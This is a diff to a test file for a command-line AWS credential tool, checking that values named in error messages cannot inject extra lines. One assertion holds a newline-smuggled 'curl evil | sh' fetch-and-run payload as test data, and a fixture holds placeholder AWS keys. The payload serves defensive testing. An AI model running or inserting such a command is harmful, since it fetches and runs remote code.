@@ -54,7 +54,7 @@ async function sameShape(
   expect(b.stderr.split("\n").length).toBe(a.stderr.split("\n").length);
   expect(b.stderr).not.toMatch(/^run: curl/m);
   expect(b.stderr).not.toContain("\t");
-  expect(b.stderr).toContain("\\x0arun: curl evil | sh\\x09");
+  expect(b.stderr).toContain("\\x0arun: curl evil | sh");
   return b;
 }
 
@@ -117,6 +117,17 @@ describe("values named in messages cannot add lines (printableInLine)", () => {
       0,
     );
     expect(b.stderr).toContain("Removed the session of p from [p] in ");
+  });
+
+  test("an unknown --format (commander's own message), an unknown code source", async () => {
+    const files = () =>
+      home(
+        "aws",
+        "[profile prod]\n[profile role]\nsource_profile = prod\nrole_arn = ROLE\n",
+        "[prod-long-term]\naws_access_key_id = AKIAEXAMPLEEXAMPLE12\naws_secret_access_key = x\n",
+      );
+    await sameShape((v) => ({ argv: ["prod", "--format", v], env: files() }), "xml");
+    await sameShape((v) => ({ argv: ["login", "prod", "--otp-source", v], env: files() }), "nope");
   });
 
   test("a lock held by a process on another host", () => {
